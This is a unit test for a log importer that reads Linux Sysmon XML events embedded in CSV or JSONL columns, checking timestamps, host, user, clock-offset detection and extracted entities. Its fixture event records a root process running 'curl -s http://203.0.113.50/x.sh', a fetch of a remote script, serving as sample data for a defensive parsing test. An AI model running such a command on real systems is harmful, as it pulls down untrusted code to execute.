import { describe, expect, it } from 'vitest';
import { runImporter, us } from '../../../../tests/unit/support/import-harness';
import { genericCsv } from './generic-csv';
import { genericJsonl } from './generic-jsonl';

/** A Linux Sysmon process creation as syslog carries it. */
const XML =
  '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>' +
  '<Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2021-10-16T00:41:27.577774000Z"/>' +
  '<EventRecordID>765</EventRecordID><Correlation/><Execution ProcessID="3465" ThreadID="3465"/><Channel>Linux-Sysmon/Operational</Channel>' +
  '<Computer>lsys</Computer><Security UserId="0"/></System><EventData><Data Name="UtcTime">2021-10-16 00:41:27.581</Data>' +
  '<Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://203.0.113.50/x.sh</Data><Data Name="User">root</Data></EventData></Event>';

describe('Sysmon XML inside a column of a generic CSV or JSONL file', () => {
  it('CSV: the event’s own time, host, user, message and fields; the row’s time kept under its column', async () => {
    const csv = `received,host,line\n2021-10-16T02:41:29Z,collector,"sysmon: ${XML.replace(/"/g, '""')}"\n`;
    const r = await runImporter(genericCsv, Buffer.from(csv), { mapping: { time: 'received', timeFormat: 'iso', message: ['line'], host: 'host' } });
    expect(r.error).toBeNull();
    expect(r.events).toHaveLength(1);
    const event = r.events[0]!;
    expect(event).toMatchObject({ time: us('2021-10-16T00:41:27.581Z'), host: 'lsys', user: 'root', source: 'Linux-Sysmon/Operational' });
    expect(event.message).toContain('curl -s http://203.0.113.50/x.sh');
    expect(event.attributes).toMatchObject({ Image: '/usr/bin/curl', received: '2021-10-16T02:41:29.000000Z' });
    // The row's time is two whole hours off the event's: a local time written as UTC, said in the report.
    expect(r.clockOffsets).toEqual([expect.objectContaining({ field: 'UtcTime', other: 'received', hours: 2 })]);
    expect(r.entities.map((e) => `${e.type}:${e.display}`)).toEqual(expect.arrayContaining(['ip:203.0.113.50', 'user:root']));
  });

  it('JSONL: found in whichever field carries it; a cut event stays its text with a warning naming the column', async () => {
    const lines = [JSON.stringify({ ts: '2021-10-16T00:41:28Z', raw: XML }), JSON.stringify({ ts: '2021-10-16T00:41:30Z', raw: XML.slice(0, 300) })].join('\n');
    const r = await runImporter(genericJsonl, Buffer.from(lines), { mapping: { time: 'ts', timeFormat: 'iso', message: ['raw'] } });
    expect(r.events.map((e) => [e.time, e.user])).toEqual([
      [us('2021-10-16T00:41:27.581Z'), 'root'],
      [us('2021-10-16T00:41:30Z'), ''],
    ]);
    expect(r.warnings).toEqual([expect.stringContaining('column "raw" holds a Sysmon event that could not be read')]);
  });
});
